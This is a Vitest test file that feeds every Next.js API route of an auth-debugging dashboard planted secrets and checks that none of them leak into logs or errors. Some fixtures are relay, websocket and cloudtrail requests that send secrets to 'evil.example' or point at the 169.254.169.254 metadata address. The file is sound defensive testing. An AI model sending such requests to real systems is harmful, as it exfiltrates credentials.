/**
 * Every route handler under app/api, found on disk (a new route is covered without editing this
 * file), is called directly with requests carrying planted secrets — in the query, the headers,
 * JSON and form bodies, malformed bodies — plus each route's own valid-looking requests aimed at a
 * loopback "endpoint" that echoes the secrets back, redirects, or fails. console.* and the
 * process's stdout/stderr are watched throughout: no secret may come out. A handler that throws
 * would have its error printed by Next.js, so thrown errors are held to the same rule.
 */
import { readdirSync } from "node:fs";
import { join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { readBody, startServer, type TestServer } from "../relay/test-support";
import { leaks, PLANTED, PLANTED_JWT, watchOutput } from "./test-support";

const ROOT = join(__dirname, "..", "..");
const API = join(ROOT, "app", "api");
const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"] as const;
type Handler = (request: Request, context?: unknown) => Response | Promise<Response>;

const routeFiles = (readdirSync(API, { recursive: true }) as string[])
  .filter((file) => /(^|\/)route\.ts$/.test(file))
  .map((file) => join(API, file))
  .sort();

const { secretKey, apiKey, password, sessionToken, opaqueToken, accessKeyId } = PLANTED;
const secretHeaders = {
  authorization: `Bearer ${PLANTED_JWT}`,
  "x-api-key": apiKey,
  "x-amz-security-token": sessionToken,
  cookie: `session=${opaqueToken}; afd-regions=us-east-1`,
  "x-secret": secretKey,
  "x-password": password,
};
const secretQuery = new URLSearchParams({ token: PLANTED_JWT, password, apiKey, secret: secretKey, access_token: opaqueToken });
const secretJson = {
  AuthParameters: { USERNAME: "demo", PASSWORD: password, SECRET_HASH: opaqueToken },
  Credentials: { AccessKeyId: accessKeyId, SecretKey: secretKey, SessionToken: sessionToken },
  idToken: PLANTED_JWT,
  apiKey,
};

/** Loopback stand-in for AWS and the sandbox: echoes everything it was sent, or misbehaves. */
let echo: TestServer;
/** What the routes' fetch sees for AWS hosts: an error quoting the request, or a redirect. */
let awsAnswer: "throw" | "redirect" | "echo" = "throw";

beforeAll(async () => {
  echo = await startServer((req, res) => {
    void readBody(req).then((body) => {
      const sent = JSON.stringify({ url: req.url, headers: req.headers, body: Buffer.from(body).toString("utf8") });
      if (req.url?.includes("redirect")) {
        res.writeHead(302, { location: `http://169.254.169.254/?token=${opaqueToken}` });
        return res.end();
      }
      if (req.url?.includes("jwks.json")) {
        res.writeHead(200, { "content-type": "application/json" });
        return res.end(`{"keys":"not keys ${secretKey}"}`);
      }
      res.writeHead(403, { "content-type": "application/json", "x-amzn-errortype": "UnrecognizedClientException" });
      res.end(JSON.stringify({ __type: "UnrecognizedClientException", message: `The security token included in the request is invalid: ${sent}` }));
    });
  });
  vi.stubEnv("AUTH_DEBUGGER_SANDBOX_URL", echo.origin);
  vi.stubEnv("AUTH_DEBUGGER_CLOUDTRAIL_MODE", "server");
  vi.stubEnv("AUTH_DEBUGGER_CLOUDTRAIL_POOLS", `us-east-1_Planted,${echo.origin}/us-east-1_Planted`);
  vi.stubEnv("AUTH_DEBUGGER_CLOUDTRAIL_GROUPS", "support");
  vi.stubEnv("AUTH_DEBUGGER_PRESETS", `[{"id":"bad","name":"x","password":"${password}", "region": "nowhere"}, ${JSON.stringify(secretKey)}`);
  vi.stubEnv("AUTH_DEBUGGER_PRESETS_FILE", "/nonexistent/presets.json");
  const realFetch = globalThis.fetch;
  vi.stubGlobal("fetch", async (input: RequestInfo | URL, init?: RequestInit) => {
    const url = new URL(input instanceof Request ? input.url : String(input));
    if (url.hostname === "127.0.0.1") return realFetch(input, init);
    if (awsAnswer === "redirect") return new Response(null, { status: 302, headers: { location: `http://127.0.0.1/?t=${opaqueToken}` } });
    if (awsAnswer === "echo") return new Response(`{"message":"${secretKey} ${PLANTED_JWT}"}`, { status: 400 });
    throw new TypeError(`fetch failed for ${url.href} with ${PLANTED_JWT} ${secretKey}`, { cause: new Error(`ECONNREFUSED ${sessionToken}`) });
  });
});

afterAll(async () => {
  vi.unstubAllEnvs();
  vi.unstubAllGlobals();
  await echo?.close();
});

let clientNumber = 0;
function request(method: string, path: string, body?: string, extraHeaders: Record<string, string> = {}): Request {
  clientNumber++;
  return new Request(`http://dashboard.test${path}`, {
    method,
    headers: { ...secretHeaders, "content-type": "application/json", "sec-fetch-site": "same-origin", "x-forwarded-for": `198.51.100.${clientNumber % 250}`, ...extraHeaders },
    ...(body !== undefined && method !== "GET" && method !== "HEAD" ? { body } : {}),
  });
}

/** Requests every route gets, whatever it is. */
function genericRequests(method: string, path: string): Request[] {
  const withQuery = `${path}?${secretQuery}`;
  const requests = [request(method, path), request(method, withQuery)];
  if (method !== "GET" && method !== "HEAD") {
    requests.push(
      request(method, withQuery, JSON.stringify(secretJson)),
      request(method, path, `{"broken": "${PLANTED_JWT}", "password": "${password}"`),
      request(method, path, `username=demo&password=${encodeURIComponent(password)}&secret=${secretKey}`, { "content-type": "application/x-www-form-urlencoded" }),
      request(method, path, `${"x".repeat(70_000)}${secretKey}`),
    );
  }
  return requests;
}

const now = Date.now();
const window = { startTime: new Date(now - 3_600_000).toISOString(), endTime: new Date(now).toISOString() };

/** Valid-looking requests per route, so each one's deeper paths (upstream calls, errors) run too. */
function routeRequests(path: string, method: string): Request[] {
  const json = (body: unknown, headers: Record<string, string> = {}) => request(method, path, JSON.stringify(body), headers);
  const issuers = [
    "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Planted",
    `${echo.origin}/us-east-1_Planted`,
    `${echo.origin}/redirect/us-east-1_Planted`,
    `https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Planted?token=${PLANTED_JWT}`,
    `http://169.254.169.254/${secretKey}`,
  ];
  switch (`${method} ${path}`) {
    case "GET /api/jwks":
      return issuers.map((issuer) => request(method, `${path}?issuer=${encodeURIComponent(issuer)}`));
    case "POST /api/relay":
      return [
        json({ method: "POST", url: `${echo.origin}/x`, headers: { ...secretHeaders, "x-amz-date": "20260101T000000Z" }, body: JSON.stringify(secretJson) }),
        json({ method: "GET", url: `${echo.origin}/redirect`, headers: secretHeaders }),
        json({ method: "POST", url: `https://sts.amazonaws.com/?Action=GetCallerIdentity&X-Amz-Security-Token=${encodeURIComponent(sessionToken)}`, headers: secretHeaders, body: "" }),
        json({ method: "POST", url: `https://evil.example/${secretKey}`, headers: secretHeaders, body: password }),
      ];
    case "POST /api/relay/ws": {
      const header = Buffer.from(JSON.stringify({ host: "x", "x-api-key": apiKey, Authorization: PLANTED_JWT })).toString("base64url");
      return [
        json({ url: `${echo.origin.replace("http", "ws")}/graphql/realtime`, protocols: ["graphql-ws", `header-${header}`] }),
        json({ url: `wss://evil.example/?token=${PLANTED_JWT}`, protocols: [`base64UrlBearerAuthorization.${Buffer.from(opaqueToken).toString("base64url")}`] }),
      ];
    }
    case "POST /api/cloudtrail": {
      const pasted = { mode: "pasted", accessKeyId, secretAccessKey: secretKey, sessionToken };
      return [
        json({ region: "us-east-1", endpoint: `${echo.origin}/cloudtrail`, ...window, maxPages: 1, credentials: pasted }),
        json({ region: "us-east-1", endpoint: `https://evil.example/${secretKey}`, ...window, credentials: pasted }),
        json({ region: "us-east-1", endpoint: `${echo.origin}/cloudtrail`, ...window, maxPages: 1, credentials: { mode: "server" } }),
        json({ region: "us-east-1", ...window, credentials: { ...pasted, secretAccessKey: `${secretKey} with a space` } }),
      ];
    }
    default:
      return [];
  }
}

async function drain(response: Response): Promise<string> {
  const reader = response.body?.getReader();
  if (!reader) return "";
  const decoder = new TextDecoder();
  let text = "";
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    const { done, value } = await reader.read();
    if (done) break;
    text += decoder.decode(value, { stream: true });
  }
  await reader.cancel().catch(() => undefined);
  return text;
}

describe("route handlers never print secrets", () => {
  it("finds the routes", () => {
    expect(routeFiles.map((file) => relative(ROOT, file))).toEqual(expect.arrayContaining(["app/api/jwks/route.ts", "app/api/presets/route.ts", "app/api/relay/route.ts"]));
  });

  it.each(routeFiles.map((file) => [relative(ROOT, file), file]))("%s", async (_name, file) => {
    const path = `/${relative(join(ROOT, "app"), file).replace(/\/route\.ts$/, "")}`;
    const module = (await import(file)) as Partial<Record<(typeof METHODS)[number], Handler>>;
    const handlers = METHODS.filter((method) => typeof module[method] === "function");
    expect(handlers.length).toBeGreaterThan(0);

    const thrown: string[] = [];
    const answers: Array<[string, number, string]> = [];
    const watch = watchOutput();
    try {
      for (const mode of ["throw", "redirect", "echo"] as const) {
        awsAnswer = mode;
        for (const method of handlers) {
          const requests = [...genericRequests(method, path), ...routeRequests(path, method)];
          for (const req of requests) {
            try {
              const response = await module[method]!(req, { params: Promise.resolve({}) });
              answers.push([`${method} ${req.url}`, response.status, await drain(response)]);
            } catch (error) {
              const e = error as Error;
              thrown.push(`${e?.name}: ${e?.message}\n${e?.stack ?? ""}\n${String((e as { cause?: unknown })?.cause ?? "")}`);
            }
          }
        }
      }
      // Give fire-and-forget work (a late log line) a moment to surface while still watched.
      await new Promise((resolve) => setTimeout(resolve, 50));
    } finally {
      watch.restore();
    }
    expect(leaks(watch.text()), `printed:\n${watch.text().slice(0, 2000)}`).toEqual([]);
    expect(leaks(thrown.join("\n")), `thrown:\n${thrown.join("\n").slice(0, 2000)}`).toEqual([]);
    expect(answers.length).toBeGreaterThan(0);
  }, 120_000);
});

describe("the JWKS and presets routes' own answers", () => {
  it("never echo a planted secret back either", async () => {
    const jwks = (await import("@/app/api/jwks/route")) as { GET: Handler };
    const presets = (await import("@/app/api/presets/route")) as { GET: Handler };
    const watch = watchOutput();
    const bodies: string[] = [];
    try {
      for (const mode of ["throw", "redirect", "echo"] as const) {
        awsAnswer = mode;
        for (const issuer of [`https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Planted`, `${echo.origin}/us-east-1_Planted`, `${echo.origin}/redirect/us-east-1_Planted`, PLANTED_JWT]) {
          bodies.push(await (await jwks.GET(request("GET", `/api/jwks?issuer=${encodeURIComponent(issuer)}&x=${secretKey}`))).text());
          bodies.push(await (await jwks.GET(request("GET", `/api/jwks?issuer=${encodeURIComponent(issuer)}`))).text());
        }
      }
      bodies.push(await (await presets.GET(request("GET", "/api/presets"))).text());
    } finally {
      watch.restore();
    }
    // The presets route passes on AUTH_DEBUGGER_PRESETS' parse warnings by design (the operator's
    // own configuration); here that variable holds planted secrets, so only the JWKS answers count.
    expect(leaks(bodies.slice(0, -1).join("\n"))).toEqual([]);
    expect(leaks(watch.text())).toEqual([]);
  });
});
